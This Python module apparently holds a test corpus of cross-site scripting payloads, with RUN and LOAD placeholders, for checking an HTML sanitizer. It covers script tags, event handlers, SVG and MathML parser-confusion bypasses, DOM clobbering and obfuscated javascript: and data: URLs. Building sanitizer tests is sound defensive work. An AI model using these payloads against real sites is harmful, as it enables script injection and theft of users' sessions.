"""What is tried against pages in HTML, SVG, MathML and addresses. Each line runs `RUN` if it can."""

TAGS = """
<script>RUN</script>
<SCRIPT>RUN</SCRIPT>
<scr<script>ipt>RUN</scr</script>ipt>
<script src=LOAD></script>
<script src="data:text/javascript,RUN"></script>
<script type=module>RUN</script>
<script/x>RUN</script>
<script\t>RUN</script>
<<script>RUN//<</script>
<script>RUN
</script foo><script>RUN</script>
<!--><script>RUN</script>-->
<!-- --!><script>RUN</script>
<![CDATA[><script>RUN</script>]]>
<?xml ><script>RUN</script>?>
<!DOCTYPE x [<!ENTITY a "<script>RUN</script>">]>&a;
<iframe src="javascript:RUN"></iframe>
<iframe srcdoc="<script>parent.RUN</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.RUN&gt;"></iframe>
<iframe src="data:text/html,<script>parent.RUN</script>"></iframe>
<frameset onload=RUN><frame src="javascript:RUN"></frameset>
<object data="javascript:RUN"></object>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
<object type="text/x-scriptlet" data="LOAD"></object>
<embed src="javascript:RUN">
<embed src="LOAD" type="application/x-shockwave-flash" allowscriptaccess=always>
<applet code="javascript:RUN"></applet>
<base href="javascript:RUN//">
<base href="LOAD">
<meta http-equiv="refresh" content="0;url=javascript:RUN">
<meta http-equiv="refresh" content="0;url=LOAD">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<link rel="stylesheet" href="LOAD">
<link rel=import href="LOAD">
<link rel=prefetch href="LOAD">
<form action="javascript:RUN"><button>go</button></form>
<form><button formaction="javascript:RUN">go</button></form>
<form id=f></form><button form=f formaction="javascript:RUN">go</button>
<form action="javascript:RUN"><input type=image src=x></form>
<isindex action="javascript:RUN" type=image>
<input type=image src=x onerror=RUN>
<button onfocus=RUN autofocus>go</button>
<keygen autofocus onfocus=RUN>
<select autofocus onfocus=RUN><option>a</select>
<textarea autofocus onfocus=RUN>a</textarea>
<input autofocus onfocus=RUN>
<input onblur=RUN autofocus><input autofocus>
<dialog open onclose=RUN><form method=dialog><button>go</button></form></dialog>
<template><script>RUN</script></template>
<template shadowrootmode=open><img src=x onerror=RUN></template>
<slot onslotchange=RUN><b>a</b></slot>
<portal src="javascript:RUN"></portal>
<x-evil onclick=RUN>click</x-evil>
<plaintext onclick=RUN>"""

HANDLERS = """
<img src=x onerror=RUN>
<img src=x onerror="RUN">
<img src=x:x onerror=RUN//
<IMG SRC=x OnErRoR=RUN>
<img/src=x/onerror=RUN>
<img src=x\tonerror\t=\tRUN>
<img src=x onerror=&#82;UN onerror="RUN">
<img src="x` `<script>RUN</script>"` `>
<img src=LOAD onload=RUN>
<img srcset="LOAD 2x" src=x onerror=RUN>
<img src=x onerror='eval(atob("YWxlcnQoMSk="));RUN'>
<img dynsrc="javascript:RUN" lowsrc="javascript:RUN">
<image src=x onerror=RUN>
<picture><source srcset=LOAD><img src=x onerror=RUN></picture>
<video src=x onerror=RUN></video>
<video><source onerror=RUN></video>
<video poster="javascript:RUN" onloadstart=RUN src=x></video>
<audio src=x onerror=RUN></audio>
<audio controls onloadstart=RUN src=LOAD></audio>
<track onerror=RUN default src=x>
<body onload=RUN>
<body onpageshow=RUN background="javascript:RUN">
<body onhashchange=RUN onscroll=RUN>
<html onmousemove=RUN>
<div onmouseover=RUN>over</div>
<div onpointerenter=RUN onpointermove=RUN>over</div>
<div onclick=RUN onmousedown=RUN>click</div>
<div tabindex=0 autofocus onfocus=RUN onfocusin=RUN>focus</div>
<div contenteditable oninput=RUN onbeforeinput=RUN>type</div>
<div draggable=true ondragstart=RUN ondrop=RUN>drag</div>
<div style="animation:turn 1s" onanimationstart=RUN>a</div>
<div style="transition:all 1s" ontransitionend=RUN>a</div>
<div style="width:expression(RUN)">a</div>
<div style="background:url(javascript:RUN)">a</div>
<div style="background:url(LOAD)">a</div>
<div style="behavior:url(LOAD);-moz-binding:url(LOAD)">a</div>
<div style="position:fixed;inset:0;z-index:9999">over all</div>
<div STYLE = 'background-image:url("LOAD")'>a</div>
<div/style=x:y;background:url(LOAD)>a</div>
<a style="display:block;position:fixed" href="javascript:RUN">a</a>
<details open ontoggle=RUN><summary>a</summary>b</details>
<summary onclick=RUN>a</summary>
<marquee onstart=RUN loop=1>a</marquee>
<marquee behavior=alternate onbounce=RUN>a</marquee>
<table background="javascript:RUN"><tr><td background="javascript:RUN">a</table>
<table onclick=RUN><tr><td onmouseover=RUN>a</table>
<p oncopy=RUN onpaste=RUN oncontextmenu=RUN onwheel=RUN>a</p>
<p onbeforematch=RUN hidden=until-found>a</p>
<b oncontentvisibilityautostatechange=RUN style="content-visibility:auto">a</b>
<label onclick=RUN>a</label>
<fieldset onclick=RUN>a</fieldset>
<button popovertarget=p1>a</button><div popover id=p1 onbeforetoggle=RUN>b</div>
<style>@import "LOAD";</style>
<style>* { background: url(LOAD) }</style>
<style onload=RUN>a{}</style>
<style>@keyframes x{}</style><b style="animation-name:x" onanimationend=RUN>a</b>
<link rel=stylesheet href=x onerror=RUN>
<script onerror=RUN src=x></script>
<bgsound src="javascript:RUN">
<layer src="LOAD"></layer>
<xss id=x tabindex=1 onfocus=RUN></xss>
<font color=red onmouseenter=RUN>a</font>
<map name=m><area href="javascript:RUN" shape=default onclick=RUN></map><img usemap=#m src=x>"""

FOREIGN = """
<svg onload=RUN>
<svg/onload=RUN>
<svg><script>RUN</script></svg>
<svg><script href="data:text/javascript,RUN"/></svg>
<svg><script>&#82;UN</script></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s></svg>
<svg><animate xlink:href=#x1 attributeName=href values="javascript:RUN"/><a id=x1><text y=20>click</text></a></svg>
<svg><set onbegin=RUN attributeName=x to=1></svg>
<svg><a><set attributeName=href to="javascript:RUN"/><text y=20>click</text></a></svg>
<svg><a xlink:href="javascript:RUN"><text y=20>click</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>RUN</script></svg>#x"></svg>
<svg><use xlink:href="LOAD#x"></svg>
<svg><image href="LOAD" onload=RUN></svg>
<svg><feImage href="LOAD"></svg>
<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.RUN</script>"></iframe></foreignObject></svg>
<svg><style>@import "LOAD";</style></svg>
<svg><style><img src="</style><img src=x onerror=RUN>"></svg>
<svg><title><style><img src="</style></title><img src=x onerror=RUN>"></svg>
<svg><desc><noscript><img title="</noscript><img src=x onerror=RUN>"></desc></svg>
<svg><discard onbegin=RUN></svg>
<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">RUN</handler></svg>
<svg></p><style><a id="</style><img src=x onerror=RUN>">
<math href="javascript:RUN">click</math>
<math><mtext href="javascript:RUN">click</mtext></math>
<math><maction actiontype="statusline#LOAD" xlink:href="javascript:RUN">click</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=RUN></annotation-xml></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>
<math><mtext><mglyph><style><img src=x onerror=RUN></style></mglyph></mtext></math>
<math><mi><style><!--</style><img src=x onerror=RUN>--></mi></math>
<noscript><p title="</noscript><img src=x onerror=RUN>">
<noscript><style></noscript><img src=x onerror=RUN></style>
<noembed><img title="</noembed><img src=x onerror=RUN>"></noembed>
<noframes><img title="</noframes><img src=x onerror=RUN>"></noframes>
<xmp><p title="</xmp><img src=x onerror=RUN>">
<title><p title="</title><img src=x onerror=RUN>">
<textarea><p title="</textarea><img src=x onerror=RUN>">
<listing>&lt;img src=x onerror=RUN&gt;</listing>
<select><noscript></select><img src=x onerror=RUN></noscript></select>
<table><caption><svg><style></caption></table><img src=x onerror=RUN></style>
<p><svg><p><style><g title="</style><img src=x onerror=RUN>">
<a><table><a><svg><desc><p><img src=x onerror=RUN>
<p id="</p><img src=x onerror=RUN>">a</p>
<p title="--><img src=x onerror=RUN>">a</p>
<div title="`><img src=x onerror=RUN>`">a</div>"""

CLOBBERING = """
<img name=body><img id=location>
<form id=document><input name=cookie><input name=body></form>
<a id=window><a id=window name=origin href="cid:x">a</a>
<form id=createElement></form><img name=getElementById><img name=querySelector>
<img id=hacked name=hacked>
<input name=attributes><input id=parentNode><input name=childNodes>
<form><input name=attributes><img src=x onerror=RUN></form>
<form><input name=nodeName><input name=removeChild></form>
<a id=main>a</a><div id=page>b</div><b id=trustedTypes>c</b>
<object id=DOMPurify></object><b id=fetch>d</b>
<span data-slot="1-0">a</span><i data-later="note" data-path="x">b</i>
<input type=checkbox data-task-line=1 checked>
<div class="veil">a</div><div class="toast" role="alert">Sign in again</div>
<a class="wikilink" data-path="Welcome.md" href="#/account">a</a>"""

ADDRESSES = r"""
javascript:RUN
JaVaScRiPt:RUN
java&#9;script:RUN
java&#10;script:RUN
java&#13;script:RUN
&#1;javascript:RUN
&#32;javascript:RUN
javascript&colon;RUN
javascript&#58;RUN
javascript&#x3A;RUN
&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;RUN
&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;RUN
&#0000106avascript:RUN
java%0ascript:RUN
javascript:%52UN
%6A%61vascript:RUN
javascript://%0aRUN
javascript://example.org/%0d%0aRUN
view-source:javascript:RUN
feed:javascript:RUN
jar:javascript:RUN
vbscript:RUN
livescript:RUN
mocha:RUN
data:text/html,<script>RUN</script>
data:text/html;base64,PHNjcmlwdD5oYWNrZWQoMSk8L3NjcmlwdD4=
data:image/svg+xml,<svg/onload=RUN>
data:application/xhtml+xml,<script>RUN</script>
DATA:text/html,RUN
blob:RUN
filesystem:RUN
file:///etc/passwd
//example.org/RUN
\\example.org\RUN
x:RUN
about:blank#RUN
ws://example.org/RUN
intent://RUN
ms-settings:RUN
tel:RUN"""
